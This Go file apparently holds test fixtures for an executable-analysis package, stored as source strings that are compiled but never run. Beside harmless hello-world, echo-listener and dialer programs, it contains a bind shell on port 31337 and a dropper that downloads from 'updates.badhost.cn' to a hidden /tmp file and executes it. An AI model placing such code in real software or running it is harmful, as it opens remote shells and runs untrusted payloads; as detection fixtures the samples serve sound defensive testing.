package exe

// Go sources of the fixtures, cross-compiled by the tests and never run.

const goHello = `package main

import "fmt"

func main() { fmt.Println("hello, world") }
`

const goListener = `package main

import (
	"io"
	"net"
)

func main() {
	l, err := net.Listen("tcp", "127.0.0.1:4444")
	if err != nil {
		return
	}
	for {
		c, err := l.Accept()
		if err != nil {
			return
		}
		go io.Copy(c, c)
	}
}
`

const goDialer = `package main

import (
	"io"
	"net"
	"os"
)

func main() {
	c, err := net.Dial("tcp", os.Args[1])
	if err != nil {
		return
	}
	io.Copy(os.Stdout, c)
}
`

// goBackdoor listens, and runs what it is sent.
const goBackdoor = `package main

import (
	"net"
	"os/exec"
)

func main() {
	l, err := net.Listen("tcp", ":31337")
	if err != nil {
		return
	}
	for {
		c, err := l.Accept()
		if err != nil {
			return
		}
		cmd := exec.Command("/bin/sh", "-i")
		cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
		cmd.Start()
	}
}
`

// goUpdater downloads, marks executable and runs.
const goUpdater = `package main

import (
	"io"
	"net/http"
	"os"
	"os/exec"
)

func main() {
	r, err := http.Get("http://updates.badhost.cn/agent")
	if err != nil {
		return
	}
	f, _ := os.Create("/tmp/.agent")
	io.Copy(f, r.Body)
	f.Close()
	os.Chmod("/tmp/.agent", 0o755)
	exec.Command("/tmp/.agent").Run()
}
`
